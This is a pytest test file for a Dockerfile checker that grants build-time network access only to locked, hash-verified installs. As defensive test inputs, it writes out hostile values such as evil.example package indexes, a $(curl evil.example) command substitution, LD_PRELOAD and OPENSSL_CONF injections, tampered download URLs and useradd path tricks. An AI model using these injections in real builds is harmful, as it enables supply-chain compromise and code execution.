"""In an image build, only commands that install locked packages have a network, before anything else is copied."""

from __future__ import annotations

import json
import runpy
import sys
from pathlib import Path

import pytest

from cicd_templates.builds.scripts import lock_files
from tests.conftest import ROOT

SCRIPTS = ROOT / "src/cicd_templates/builds/scripts"
BASE = f"public.ecr.aws/docker/library/python@sha256:{'a' * 64}"
PIP = "pip install --only-binary :all: --require-hashes -r requirements.txt"
APT = "apt-get install -y gcc"
DOWNLOAD = f"curl -fsSL -o /tmp/tool https://example.com/tool && echo '{'a' * 64}  /tmp/tool' | sha256sum --check"
ADDRESSES = ("https://example.com/", "https://files.example.com/tool")
FILES = (
    *(
        "requirements.txt",
        "requirements/base.txt",
        "package.json",
        "package-lock.json",
        "app.py",
        "notes.txt",
        "go.sum",
    ),
    *("composer.json", "pyproject.toml", "uv.lock"),
)


def built(text: str, folder: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """Return the Dockerfile that is built, or the problems if it is refused."""
    for name in FILES:
        path = folder / "context" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if not path.exists():
            path.write_text("{}" if path.suffix == ".json" else "")
    (folder / "context/Cargo.lock").write_bytes(b"\x7fELF\x02\x01\x01\0")
    (folder / "context/yarn.lock").write_bytes(b"\x7fELF\xff")
    path = folder / "Dockerfile"
    path.write_text(text)
    instructions, target = str(folder / "instructions"), folder / "built"
    for script, arguments in (
        ("dockerfile", [instructions, "public.ecr.aws"]),
        ("dockerfile_network", [instructions, str(folder / "context"), str(target), *ADDRESSES]),
    ):
        try:
            run_script(script, [str(path), *arguments], monkeypatch)
        except SystemExit as error:
            return str(error.code).replace(f"{path}:", "")
    return target.read_text()


def run_script(name: str, arguments: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "argv", [f"{name}.py", *arguments])
    runpy.run_path(str(SCRIPTS / f"{name}.py"), run_name="__main__")


@pytest.mark.parametrize(
    "command",
    [
        PIP,
        "python3 -m pip install -q --no-deps --only-binary=:all: --require-hashes --requirement=a/requirements.txt",
        f"mkdir -p /srv && python -m venv /venv && /venv/bin/{PIP} --target /srv/lib",
        "pip install \\\n  --require-hashes \\\n  # a comment\n  --only-binary :all: -r requirements/base.txt",
        "--mount=type=bind,source=requirements.txt,target=/tmp/requirements.txt " + PIP,
        "--mount=type=bind,src=package.json,dst=/srv/package.json,ro --mount=type=bind,source=package-lock.json,"
        "target=/srv/package-lock.json npm ci --ignore-scripts --omit=dev",
        "uv pip sync --system --no-config --require-hashes --no-build requirements.txt",
        "uv sync --no-config --no-python-downloads --frozen --no-build --no-install-project --no-dev",
        "yarn install --frozen-lockfile --ignore-scripts",
        "pnpm install --frozen-lockfile --ignore-scripts --prod",
        "go mod download",
        "cargo fetch --locked",
        "composer install --no-scripts --no-plugins --no-dev",
        "apt-get update && apt-get install -y --no-install-recommends g++=4:12.2.0 && rm -rf /var/lib/apt/lists/*",
        "apk add --no-cache curl libstdc++",
        "apk add rpm apk-tools.doc debian-keyring deb.x",
        "dnf install -y openssl && dnf clean all",
        DOWNLOAD,
        DOWNLOAD.replace("example.com", "files.example.com"),
        f"apt-get install -y curl && {DOWNLOAD}",
        f"{DOWNLOAD} && {DOWNLOAD.replace('tool', 'other')} && true",
    ],
)
def test_a_command_that_takes_what_a_lock_names_has_a_network(
    command: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = f'FROM {BASE}\nARG A\nENV A=1 B="x"\nENV C d\nRUN {command}\n'

    assert built(text, tmp_path, monkeypatch) == text


@pytest.mark.parametrize(
    "step",
    [
        "WORKDIR /app\nCOPY requirements.txt .",
        "COPY requirements.txt /tmp/",
        "COPY --chown=1 --link requirements.txt requirements/base.txt /app/requirements/",
        "COPY requirements.txt /app/requirements.txt",
        "WORKDIR /\nWORKDIR usr/src\nWORKDIR app/\nCOPY package*.json ./",
        "ENV PIP_NO_CACHE_DIR=1 PYTHONPATH=/app NODE_ENV=production PATH=/venv/bin:${PATH}",
        'ENV DEBIAN_FRONTEND=noninteractive A="x y" LANG=C.UTF-8 EMPTY= VIRTUAL_ENV=/opt/venv',
        "ARG VERSION=1",
        "WORKDIR /app\nUSER 1\nEXPOSE 80\nLABEL a=b",
        'SHELL ["/bin/bash", "-euo", "pipefail", "-c"]',
        "RUN apt-get install -y gcc && python -m venv /opt/venv",
        f"COPY --from={BASE} /usr/local /usr/local",
        f"COPY --from={BASE} /uv /uvx /bin/",
        f"COPY --from={BASE} /usr/bin/uv /usr/local/bin/uv",
        "RUN --network=none mkdir /srv",
    ],
)
def test_an_instruction_that_adds_no_source_keeps_the_network(
    step: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = f"FROM {BASE}\n{step}\nRUN {PIP}\n"

    assert built(text, tmp_path, monkeypatch) == text


@pytest.mark.parametrize(
    "step",
    [
        "COPY . .",
        f"RUN {PIP}",
        f"RUN apt-get install -y gcc && python -m venv /venv && /venv/bin/python -m {PIP} && true",
        "RUN uv sync --no-config --no-python-downloads --frozen --no-build --no-install-project",
        "RUN uv pip sync --no-config --require-hashes --no-build requirements.txt",
        "RUN npm ci --ignore-scripts",
        "RUN yarn install --frozen-lockfile --ignore-scripts && true",
        "RUN mkdir -p /app && pnpm install --frozen-lockfile --ignore-scripts",
        "RUN composer install --no-scripts --no-plugins",
        f"COPY --from={BASE} /usr/local/lib/node_modules/npm/ /app/",
        f"COPY --from={BASE} /usr/local/lib/node_modules/npm/ /",
        f"COPY --from={BASE} /usr/local/lib/tool /tmp/tool",
        f"COPY --from={BASE} /home /home",
        f"COPY --from={BASE} tool .",
        "COPY app.py /usr/local/bin/pip",
        "COPY requirements.txt /usr/local/bin/pip",
        "COPY requirements.txt app.py .",
        "COPY --parents requirements/base.txt /app/",
        "COPY Cargo.lock .",
        "COPY yarn.lock .",
        f"COPY --from={BASE} /bin/sh /usr/local/bin/pip",
        f'COPY --from={BASE} ["/bin/sh", "/usr/local/bin/"]',
        f"COPY --from={BASE} /x/${{A:-q/go.sum}} /usr/bin/${{B:-q/go.sum}}",
        f"COPY --from={BASE} --chmod=755 /x/go.sum pip",
        "COPY requirements /usr/local/bin/",
        "COPY *.txt /app/",
        "COPY folder.d/requirements.txt /app/",
        "COPY link/requirements.txt /app/",
        "COPY linked/requirements.txt /app/",
        "COPY a/requirements/base.txt /app/",
        "COPY ./a//requirements/base.txt /app/",
        "RUN --mount=type=bind,source=linked/requirements.txt,target=/app/requirements.txt true",
        "COPY ../requirements.txt /app/",
        "COPY */base.txt /app/",
        "COPY requirements$X.txt /app/",
        "COPY missing/requirements.txt /app/",
        'COPY ["requirements.txt", "/app/"]',
        "COPY",
        "RUN cp requirements.txt /usr/local/bin/pip",
        "RUN true && echo x > /etc/pip.conf",
        "RUN true &&",
        "RUN --mount=type=bind,target=/usr/local/bin true",
        "RUN --mount=type=bind,target=/src/ true",
        "RUN --mount=type=bind true",
        "RUN --mount=type=bind,source=requirements.txt,target=/usr/local/bin/pip true",
        "RUN --mount=type=bind,source=requirements.txt,target=/app/requirements.txt,rw true",
        "RUN --mount=type=bind,type=tmpfs,source=requirements.txt,target=/app/requirements.txt true",
        f"RUN {DOWNLOAD}",
        "ENV PIP_INDEX_URL=https://evil.example",
        "ENV PIP_INDEX_URL https://evil.example",
        'ENV PIP_"INDEX_URL"=https://evil.example',
        "ENV A=1 LD_PRELOAD=/x",
        "ENV PS4=x",
        "ENV OPENSSL_CONF=/app/composer.json",
        "ENV OPENSSL_CONF /app/composer.json",
        "ENV GCONV_PATH=composer.json",
        'ENV A="x --no-binary y"',
        "ENV A=https://evil.example",
        "ENV A=$PYTHONPATH",
        "ARG A=${PATH}",
        "ENV PERL5OPT=-Mx",
        "ENV A='$(curl evil.example)'",
        'ENV A="`id`"',
        "ENV DEBIAN_FRONTEND=x;system",
        "ARG A=$(id)",
        "ARG https_proxy",
        "ARG UV_INDEX=https://evil.example",
        "RUN --network=none python x.py",
    ],
)
def test_an_instruction_that_could_influence_a_later_command_ends_the_network(
    step: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "context/folder.d/requirements.txt").mkdir(parents=True)
    (tmp_path / "context/link").mkdir()
    (tmp_path / "context/link/requirements.txt").symlink_to("../app.py")
    for folder in ("a", "locks"):
        (tmp_path / "context" / folder).mkdir()
    for name in ("requirements.txt", "base.txt"):
        (tmp_path / "context/locks" / name).touch()
    (tmp_path / "context/linked").symlink_to("locks")
    (tmp_path / "context/a/requirements").symlink_to("../locks")
    answer = built(f"FROM {BASE}\n{step}\nRUN {PIP}\n", tmp_path, monkeypatch)

    assert answer.startswith("3: pip install can install or download"), answer
    assert answer.endswith("; line 2 disabled the network for the rest of its stage")


@pytest.mark.parametrize(
    "command",
    [
        "python -c 'import urllib.request'",
        "make",
        "true",
        "npm run build",
        "poetry version",
        "--mount=type=bind,from=0,target=/x cp /x/a /",
        "--mount=type=tmpfs,target=/x make",
    ],
)
def test_every_other_command_has_no_network(command: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    text = f"FROM {BASE} AS a\nCOPY . .\n  run\t{command} \\\n  && b\n"

    expected = text.replace("run\t", "run --network=none\t")
    assert built(text, tmp_path, monkeypatch) == expected


def test_a_command_that_says_itself_that_it_has_no_network_is_left(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = f"FROM {BASE}\nCOPY . .\nRUN --network=none pip install --no-index --find-links wheels app\n"

    assert built(text, tmp_path, monkeypatch) == text


def test_a_stage_begins_with_the_network_of_the_one_that_it_builds_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = f"""\
FROM {BASE} AS locked
RUN {APT}
FROM scratch AS built
COPY . .
FROM Locked
RUN {APT}
COPY --from=locked /a /a
COPY --from=0 /a /a
RUN {PIP}
COPY --from=1 /b /b
RUN make
FROM built
RUN make
FROM {BASE}
COPY --from=Built /b /b
RUN make
"""
    answer = built(text, tmp_path, monkeypatch)

    assert answer == text.replace("RUN make", "RUN --network=none make")


@pytest.mark.parametrize(
    ("text", "line", "problem"),
    [
        ("RUN --network=host true", 2, "RUN may not have the option --network=host here"),
        ("RUN --security=insecure true", 2, "RUN may not have the option --security=insecure here"),
        (
            "RUN --mount=type=cache,target=/x true",
            2,
            "a mount of type cache contains files that are not part of this source",
        ),
        ("RUN --mount=TYPE=bind,Type=ssh,target=/x true", 2, "a mount of type ssh contains"),
        ("R\\\nUN make", 2, "write RUN and the beginning of its command in one line"),
        ("COPY . .\nRUN apt-get -y install git", 3, "a package manager can install or download"),
        ("RUN pip install --log --require-hashes flask", 2, "pip install can install or download"),
        (
            "RUN pip install --only-binary :all: --target --require-hashes -r requirements.txt",
            2,
            "pip install can install or download",
        ),
        ("RUN pip install --require-hashes -r requirements.txt", 2, "pip install can install or download"),
        ("RUN pip install --only-binary :all: --require-hashes -r pins.dat", 2, "pip install can install or download"),
        (f"RUN {PIP} flask", 2, "pip install can install or download"),
        (f"RUN {PIP} -i https://evil.example", 2, "pip install can install or download"),
        (f"RUN {PIP} ; true", 2, "pip install can install or download"),
        (f"RUN $X {PIP}", 2, "pip install can install or download"),
        (f"RUN {PIP} && sh x.sh", 2, "pip install can install or download"),
        (f"RUN npm ci --ignore-scripts && node_modules/.bin/{PIP}", 2, "npm install can install or download"),
        (f"RUN composer install --no-scripts --no-plugins && {DOWNLOAD}", 2, "curl or wget can install or download"),
        ("RUN npm ci", 2, "npm install can install or download"),
        ("RUN npm -g install x", 2, "npm install can install or download"),
        ("RUN git -c a=b clone x", 2, "git clone can install or download"),
        ("RUN cargo +nightly install x", 2, "cargo install can install or download"),
        ("RUN uv --quiet run x", 2, "uv can install or download"),
        ("RUN go -C d get x@latest", 2, "go install or get can install or download"),
        ("RUN dnf install -y x.rpm", 2, "a package manager can install or download"),
        ("RUN apk add x-1.0.APK curl", 2, "a package manager can install or download"),
        ("RUN apt-get install -y curl x.deb", 2, "a package manager can install or download"),
        ("RUN apt-get install -y ./x.deb", 2, "a package manager can install or download"),
        ("RUN apk add --repository https://evil.example x", 2, "a package manager can install or download"),
        (
            f"RUN {DOWNLOAD.replace('tool -', 'x -', 1).replace('-o /tmp/tool', '-o /tmp/x')}",
            2,
            "curl or wget can install or download",
        ),
        (f"RUN {DOWNLOAD.replace('/tmp/tool', '/etc/tool')}", 2, "curl or wget can install or download"),
        (f"RUN {DOWNLOAD.replace('//example', '//example.com.evil')}", 2, "curl or wget can install or download"),
        (
            f"RUN {DOWNLOAD.replace('example.com/tool', 'files.example.com/tools')}",
            2,
            "curl or wget can install or download",
        ),
        (f"RUN {DOWNLOAD.replace('com/tool', 'com/a/../tool')}", 2, "curl or wget can install or download"),
        (f"RUN {DOWNLOAD.replace('com/tool', 'com/%2e%2e/tool')}", 2, "curl or wget can install or download"),
        ("RUN uv sync --frozen --no-build --no-install-project", 2, "uv can install or download"),
        ("RUN uv sync --no-config --frozen --no-build --no-install-project", 2, "uv can install or download"),
        ("RUN uv pip install --require-hashes --no-build -r requirements.txt", 2, "uv can install or download"),
        (f"RUN {DOWNLOAD.replace('https', 'http')}", 2, "curl or wget can install or download"),
        (f"RUN {DOWNLOAD.replace('&&', ';')}", 2, "curl or wget can install or download"),
        (f"RUN {DOWNLOAD} || true", 2, "curl or wget can install or download"),
    ],
)
def test_a_command_that_needs_a_missing_network_is_refused_with_its_line(
    text: str, line: int, problem: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    answer = built(f"FROM {BASE}\n{text}\n", tmp_path, monkeypatch)

    assert any(each.startswith(f"{line}: {problem}") for each in answer.split("\n")), answer
    assert json.dumps(answer)[1:-1].replace("\\n", "") == answer.replace("\n", "")


@pytest.mark.parametrize(
    ("before", "inside", "cut"),
    [
        ("ARG OPENSSL_CONF=/app/go.sum", "ARG OPENSSL_CONF", True),
        ("ARG A=$X B=1", "ARG B A", True),
        ("ARG A='/x'", "ARG B", True),
        ("ARG A=/x", "ARG B", False),
        ("ARG A=3.13", "ARG A=3", False),
        ("ARG A=3", "ARG A", False),
    ],
)
def test_a_stage_takes_over_a_variable_from_before_it(
    before: str, inside: str, cut: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = f"{before}\nFROM {BASE}\n{inside}\nRUN {PIP}\n"
    answer = built(text, tmp_path, monkeypatch)

    assert answer.endswith("; line 3 disabled the network for the rest of its stage") if cut else answer == text


def test_a_lock_file_becomes_no_program_by_a_copy_from_a_stage_that_has_a_network(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = f"FROM {BASE} AS a\nCOPY go.sum /x/\nFROM {BASE}\nCOPY --from=a /x/go.sum /usr/local/bin/pip\nRUN {PIP}\n"

    assert built(text, tmp_path, monkeypatch).endswith("; line 4 disabled the network for the rest of its stage")


NPM = "/usr/local/lib/node_modules/npm"


@pytest.mark.parametrize(
    ("steps", "line"),
    [
        (f"COPY package.json go.sum {NPM}/node_modules/ini/", 2),
        (f"COPY go.sum {NPM}/node_modules/ini/go.sum", 2),
        (f"WORKDIR {NPM}\nCOPY package.json .", 2),
        (f"WORKDIR /app\nWORKDIR ..{NPM}", 3),
        ("WORKDIR /app\nWORKDIR node_modules/npm", 3),
        ("WORKDIR $X", 2),
        ('WORKDIR "/app"\nCOPY package.json .', 2),
        ("COPY package.json .", 2),
        ("COPY package.json ./app/", 2),
        ("WORKDIR /\nCOPY package.json .", 3),
        ("WORKDIR app", 2),
        ("COPY package.json /app/../usr/lib/x/", 2),
        ("COPY go.sum /app/.git/", 2),
        ("COPY go.sum /home/me/.config/go/", 2),
        ("COPY go.sum /app/node_modules/x/", 2),
        ("COPY go.sum /srv/Bin/", 2),
        ("COPY go.sum /opt/yarn-v1.22.22/", 2),
        ("COPY go.sum /application2/", 2),
        ("COPY go.sum /home/", 2),
        ("COPY composer.json /tmp/", 2),
        ("COPY composer.json requirements.txt /tmp/", 2),
        ("COPY requirements.txt /usr/share/", 2),
        ("RUN --mount=type=bind,source=go.sum,target=go.sum true", 2),
        (f"RUN --mount=type=bind,source=go.sum,target={NPM}/node_modules/ini/go.sum true", 2),
        ("WORKDIR /app\nRUN --mount=type=bind,source=go.sum,target=lib/x/go.sum true", 3),
    ],
)
def test_a_lock_file_where_a_program_may_load_it_ends_the_network(
    steps: str, line: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    answer = built(f"FROM {BASE}\n{steps}\nRUN {PIP}\n", tmp_path, monkeypatch)

    assert f"; line {line} disabled the network for the rest of its stage" in answer, answer
    ending = ", because the folder in this line may contain programs; use /app instead"
    assert "mount" in steps or answer.endswith(ending)


@pytest.mark.parametrize(
    ("copy", "cut"),
    [
        (f"/app/package.json /app/go.sum {NPM}/node_modules/ini/", True),
        (f"app/ {NPM}/node_modules/ini/", True),
        ("/opt/ /usr/local/lib/", True),
        ("/ /x/", True),
        ("/tmp/x/ /usr/lib/x/", True),
        ("/app/../app/go.sum /x/", True),
        ("/usr/src/go.sum /etc/go.sum", True),
        ("/app/ /srv/", False),
        ("/app/ .", False),
        ("/app/node_modules /x/node_modules", False),
        ("/venv /venv", False),
        ("/usr/local/lib/ /usr/lib/", False),
    ],
)
def test_a_copy_from_a_stage_takes_no_lock_file_to_a_program(
    copy: str, cut: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    locked = f"FROM {BASE} AS locked\nWORKDIR /app\nCOPY package.json go.sum .\n"
    text = f"{locked}FROM {BASE}\nWORKDIR /workspace\nCOPY --from=locked {copy}\nRUN {PIP}\n"
    answer = built(text, tmp_path, monkeypatch)

    assert "; line 6 disabled the network for the rest of its stage, because" in answer if cut else answer == text


@pytest.mark.parametrize("copy", ["/usr/local/lib/node_modules/npm/ /app/", "/venv/ .", "/opt/tool/ /srv/", "/x /"])
def test_a_copy_from_a_stage_takes_no_program_to_where_lock_files_may_be(
    copy: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = f"FROM {BASE} AS other\nFROM {BASE}\nWORKDIR /workspace\nCOPY --from=other {copy}\nRUN {PIP}\n"

    assert "; line 4 disabled the network for the rest of its stage" in built(text, tmp_path, monkeypatch)


def test_a_stage_begins_in_the_folder_of_the_stage_that_it_builds_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = f"FROM {BASE} AS a\nWORKDIR /app\nFROM a\nCOPY go.sum .\nRUN {PIP}\n"

    assert built(text, tmp_path, monkeypatch) == text


@pytest.mark.parametrize(
    ("name", "text", "cut"),
    [
        ("package.json", '{"pnpm": {"configDependencies": {"plugin": "1.0.0+sha512-x"}}}', True),
        ("package.json", '{"\\u0070npm": {"\\u0063onfigDependencies": {"plugin": "1.0.0+sha512-x"}}}', True),
        ("package.json", '{"a": {"config\\u0044ependencies": {}}}', True),
        ("package.json", '{"name": "a", "name": "b"}', True),
        ("package.json", '{"a": [{"x": 1, "\\u0078": 2}]}', True),
        ("package.json", '\ufeff{"name": "a"}', True),
        ("package.json", '{"name": "a",}', True),
        ("package.json", "[" * 100_000, True),
        ("package.json", '{"description": "caf\\u00e9 \\ud83d", "scripts": {"a": "x \\"y\\""}}', False),
        ("package-lock.json", '{"packages": {"node_modules/a": {"resolved": "\\u0067it\\u002bssh://e.com/a"}}}', True),
        ("npm-shrinkwrap.json", '{"a": {"version": "\\ngithub:a/b"}}', True),
        ("npm-shrinkwrap.json", '{"a": {"version": "\\u000bgit@e.com:a/b"}}', True),
        ("npm-shrinkwrap.json", '{"a": {"version": "github\\u003aa/b"}}', True),
        ("pnpm-lock.yaml", 'resolution: {tarball: "https://\\x63odeload.github.com/a/b"}', True),
        ("pnpm-lock.yaml", "pnpm\\\nfileChecksum: x", True),
        ("pnpm-lock.yaml", "a: !!binary Z2l0Og==", True),
        ("pnpm-lock.yaml", 'deprecated: "use \\"b\\"\\n"', False),
        ("package.json", '{"repository": "git+https://example.com/x.git"}', False),
        ("package-lock.json", '{"packages": {"node_modules/a": {"resolved": "git+file:///srv/repo#0"}}}', True),
        ("package-lock.json", '{"packages": {"node_modules/simple-git": {"resolved": "https://e.com/a.tgz"}}}', False),
        ("npm-shrinkwrap.json", '{"packages": {"node_modules/a": {"resolved": "git@e.com:a/b"}}}', True),
        ("pnpm-lock.yaml", "pnpmfileChecksum: x", True),
        ("pnpm-lock.yaml", "resolution: {tarball: https://codeload.github.com/a/b}", True),
        ("pnpm-lock.yaml", "packages:\n  simple-git@3.1.0: {}", False),
    ],
)
def test_a_lock_file_of_node_that_names_code_for_the_installer_is_no_lock_file(
    name: str, text: str, cut: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    files = "package.json package-lock.json npm-shrinkwrap.json pnpm-lock.yaml"
    (tmp_path / "context").mkdir()
    for each in files.split():
        (tmp_path / "context" / each).write_text(text if each == name else "{}")
    dockerfile = f"FROM {BASE}\nWORKDIR /app\nCOPY {files} ./\nRUN npm ci --ignore-scripts\n"
    answer = built(dockerfile, tmp_path, monkeypatch)

    assert "; line 3 disabled the network for the rest of its stage" in answer if cut else answer == dockerfile


def test_a_variable_before_the_first_stage_ends_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    text = f"ARG PIP_INDEX_URL=x\nFROM {BASE}\nRUN {PIP}\n"

    assert built(text, tmp_path, monkeypatch) == text


@pytest.mark.parametrize(
    "command",
    [
        "useradd -m app",
        "useradd --system --no-create-home --shell /usr/sbin/nologin --uid 10001 app",
        "useradd -r -u 10001 -g app -d /app -s /sbin/nologin app",
        "groupadd -r -g 999 app && useradd -rmu 999 -g app app",
        "useradd --create-home --home-dir /home/app app",
        "useradd app -u 1000 -G audio,video",
        "addgroup -S app && adduser -S -G app app",
        "adduser -D -H -u 1000 -s /bin/false app",
        "adduser --system --group --no-create-home --disabled-password --gecos App app",
        'adduser --disabled-password --gecos "" app',
        "usermod -aG docker app && groupmod -g 1000 app",
        "addgroup --gid 1000 app && adduser app app",
    ],
)
def test_users_may_be_created_before_packages_are_installed(
    command: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = f"FROM {BASE}\nWORKDIR /app\nCOPY go.sum .\nRUN {PIP} && {command}\n"
    apart = f"FROM {BASE}\nWORKDIR /app\nCOPY go.sum .\nRUN --network=none {command}\nRUN {PIP}\n"

    assert built(text, tmp_path, monkeypatch) == text
    assert built(apart, tmp_path, monkeypatch) == apart


@pytest.mark.parametrize(
    "command",
    [
        "useradd -m -k /app -d /etc/shadow-maint/useradd-post.d builder",
        "useradd -k /app -m builder",
        "useradd -mk /app builder",
        "useradd --skel=/app -m builder",
        "useradd -m --sk /app builder",
        "useradd -d /usr/local/lib/node_modules/npm/node_modules/ini a",
        "useradd -d /home/../usr/lib a",
        "useradd -b /usr/lib -m a",
        "useradd -R /app a",
        "useradd -P /app a",
        "useradd -D -b /app",
        "useradd -p x a",
        "useradd -K SYS_UID_MIN=0 a",
        "useradd -s /app/go.sum a",
        "useradd -u 0 -o --root /app a",
        "usermod -m -d /opt/gone a",
        "usermod --move-home --home /opt/gone a",
        "usermod -d /opt/gone a",
        "usermod -R /app a",
        "adduser -D -k /app -h /etc/apk/commit_hooks.d c",
        "adduser -D -k /app c",
        "adduser --home /usr/lib/x c",
        "adduser --conf /app/go.sum c",
        "groupadd -R /app a",
        "groupadd -P /app a",
        "groupmod -n b a",
        "addgroup --conf /app/go.sum a",
    ],
)
@pytest.mark.no_cover
def test_a_user_with_a_folder_of_the_source_ends_the_part_with_a_network(
    command: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = f"FROM {BASE}\nWORKDIR /app\nCOPY go.sum .\nRUN {command}\nRUN {PIP}\n"

    assert "; line 4 disabled the network for the rest of its stage" in built(text, tmp_path, monkeypatch)


@pytest.mark.parametrize(
    "copy",
    ["COPY constraints.txt requirements/", "COPY constraints.txt .", "COPY a/constraints.txt requirements/base.txt"],
)
def test_a_file_that_no_check_reads_is_no_lock_file(copy: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "context/a").mkdir(parents=True)
    for name in ("constraints.txt", "a/constraints.txt"):
        (tmp_path / "context" / name).write_text("evil==1\n")
    install = "pip install --require-hashes --only-binary :all: -r requirements/constraints.txt"
    text = f"FROM {BASE}\nWORKDIR /app\n{copy}\nRUN {install}\n"

    assert "; line 3 disabled the network for the rest of its stage" in built(text, tmp_path, monkeypatch)


@pytest.mark.parametrize(
    ("text", "runs"),
    [
        ('a@1:\n  resolved "\\u0067it+ssh://e.com/a"', True),
        ('a@1:\n  resolved "https:\\/\\/codeload.e.com/a"', True),
        ('a@1:\n  resolved "https://packages.example/a/-/a-1.tgz#0"', False),
    ],
)
def test_a_lock_file_of_yarn_hides_no_address(text: str, runs: bool, tmp_path: Path) -> None:
    (tmp_path / "yarn.lock").write_text(text)

    assert lock_files.runs_code(str(tmp_path / "yarn.lock")) is runs
